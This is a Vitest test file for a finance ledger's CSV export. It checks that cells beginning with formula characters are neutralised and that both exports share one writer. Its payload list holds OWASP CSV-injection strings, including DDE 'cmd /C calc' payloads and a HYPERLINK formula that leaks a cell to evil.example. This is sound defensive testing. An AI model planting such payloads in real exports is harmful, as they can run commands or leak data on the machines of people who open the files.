import { describe, expect, it, vi } from 'vitest';

// Every import of the writer is watched: both finance exports must reach it (issue 34 point 7).
vi.mock('../../src/ledger/csv.ts', async (importOriginal) => {
  const real = await importOriginal<typeof import('../../src/ledger/csv.ts')>();
  return { ...real, csvRow: vi.fn(real.csvRow), csvDocument: vi.fn(real.csvDocument) };
});

const csv = await import('../../src/ledger/csv.ts');
const { csvCell, csvDocument, csvRow } = csv;
const { mismatchesCsv } = await import('../../src/console/pages/reconciliation.ts');
const { formatReportCsv } = await import('../../src/ledger/report.ts');
const { MISMATCH_COLUMNS } = await import('../../src/ledger/mismatches.ts');
type MismatchRow = import('../../src/ledger/mismatches.ts').MismatchRow;
type FinanceReport = import('../../src/ledger/report.ts').FinanceReport;

/** The OWASP CSV-injection payloads; a partner chooses the swapId, hashes and details. */
const PAYLOADS: [string, string][] = [
  ['=1+1', "'=1+1"],
  ['+1+1', "'+1+1"],
  ["-1+1+cmd|' /C calc'!A0", "'-1+1+cmd|' /C calc'!A0"],
  ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
  ['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', `"'\r=1+1"`],
  ['-0.0005', "'-0.0005"],
  ['-1', "'-1"],
  ['=cmd|"/C calc"!A0,x', `"'=cmd|""/C calc""!A0,x"`],
  // A `;`-separator locale splits these unquoted into text and a formula (issue 42: partner text `x;=1+1`).
  ['x;=1+1', `"'x;=1+1"`],
  ['x,=1+1', `"'x,=1+1"`],
  ['x; @SUM(A1)', `"'x; @SUM(A1)"`],
  ['x;-1+1', `"'x;-1+1"`],
];

describe('the finance CSV writer', () => {
  it.each(PAYLOADS)('neutralises %j', (payload, cell) => {
    expect(csvCell(payload)).toBe(cell);
  });

  it('leaves a cell that cannot start a formula as it is, and quotes per RFC 4180', () => {
    expect(csvCell('0.25')).toBe('0.25');
    expect(csvCell('swap-1')).toBe('swap-1');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(' =1+1')).toBe(' =1+1'); // a leading space: text to every spreadsheet
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('a;b')).toBe('"a;b"'); // one cell to a `;` locale too
    expect(csvCell('say "x"')).toBe('"say ""x"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(3)).toBe('3');
    expect(csvCell(-3)).toBe("'-3");
    expect(csvRow(['a', null, '=x'])).toBe("a,,'=x");
    expect(
      csvDocument([
        ['h1', 'h2'],
        ['1', '@x'],
      ]),
    ).toBe("h1,h2\r\n1,'@x\r\n");
  });
});

const row = (over: Partial<MismatchRow> = {}): MismatchRow => ({
  provider_id: 'partner-a',
  swap_id: 's1',
  status: 'FINISHED',
  reconciled_at: '2026-11-03T15:00:00.000Z',
  check_name: 'amount.to_wallet',
  check_verdict: 'MISMATCH',
  expected: '0.25',
  actual: '0.2495',
  delta: '-0.0005',
  tolerance: '0',
  detail: 'short',
  ...over,
});

function reportOf(rows: MismatchRow[]): FinanceReport {
  return {
    period: { from: '2026-11-01T00:00:00.000Z', to: '2026-11-08T00:00:00.000Z' },
    verdicts: [],
    mismatches: rows.map((r) => ({
      swapId: r.swap_id,
      providerId: r.provider_id,
      status: r.status,
      reconciledAt: r.reconciled_at,
      checks: [
        {
          name: r.check_name,
          verdict: r.check_verdict,
          expected: r.expected,
          actual: r.actual,
          delta: r.delta,
          tolerance: r.tolerance,
          detail: r.detail,
        },
      ],
    })),
    referralRevenue: [],
    volumes: [],
  };
}

describe('both finance exports', () => {
  const hostile = PAYLOADS.map(([p], i) =>
    row({ swap_id: p, provider_id: `p${i}`, detail: p, delta: i % 2 ? '-0.1' : '0.1' }),
  );

  it('go through the one writer', () => {
    vi.mocked(csv.csvRow).mockClear();
    vi.mocked(csv.csvDocument).mockClear();
    mismatchesCsv(hostile);
    expect(vi.mocked(csv.csvDocument)).toHaveBeenCalledTimes(1);
    formatReportCsv(reportOf(hostile));
    // The report's header lines and every one of its rows.
    expect(vi.mocked(csv.csvRow).mock.calls.length).toBeGreaterThanOrEqual(hostile.length + 2);
  });

  it('write the same header and the same neutralised cells for the same mismatches', () => {
    const console = mismatchesCsv(hostile).split('\r\n').slice(0, -1);
    const report = formatReportCsv(reportOf(hostile));
    const block = report.slice(report.indexOf(`section,${MISMATCH_COLUMNS.join(',')}`));
    expect(console[0]).toBe(MISMATCH_COLUMNS.join(','));
    expect(console[0]).toContain('check_name');
    // The report's block is the console's file with the section column in front.
    expect(block.slice(0, hostile.length + 1)).toEqual(
      console.map((line, i) => `${i === 0 ? 'section' : 'mismatches'},${line}`),
    );
    for (const [payload, cell] of PAYLOADS) {
      expect(
        console.some((l) => l.includes(cell)),
        payload,
      ).toBe(true);
      // No record starts a cell with a formula character unquoted (a quoted cell is one cell to any reader).
      for (const l of [...console, ...block])
        expect(
          l
            .replace(/"(?:[^"]|"")*"/g, '""')
            .split(/[,;]/)
            .some((c) => /^[=+\-@\t\r]/.test(c)),
          l,
        ).toBe(false);
    }
  });
});
